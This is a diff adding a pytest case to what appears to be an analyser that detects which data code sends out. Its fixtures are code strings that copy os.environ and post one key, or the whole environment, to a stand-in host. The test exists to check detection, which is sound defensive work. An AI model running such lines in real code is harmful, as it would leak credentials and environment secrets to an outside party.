@@ -69,3 +69,11 @@ def test_files_that_import_each_other_are_read_once() -> None:
 def test_a_library_of_many_files_is_read_file_by_file() -> None:
     files = {f"m{at}.py": "".join(f"import m{one}\n" for one in range(80)) + SENDS for at in range(80)}
     assert sent(files, "m3.py") == {Data.CHOSEN}
+
+
+@pytest.mark.parametrize("asked", ["env.get('PRICES_KEY')", "env['PRICES_KEY']"])
+def test_one_key_of_a_copy_of_the_environment_is_one_key(asked: str) -> None:
+    code = f"import os, requests\nenv = dict(os.environ)\nrequests.post('https://e.test', headers={{'key': {asked}}})\n"
+    assert sent({"a.py": code}, "a.py") == {Data.KEY}
+    whole = "import os, requests\nenv = dict(os.environ)\nrequests.post('https://e.test', json=env)\n"
+    assert sent({"a.py": whole}, "a.py") == {Data.ENVIRONMENT}
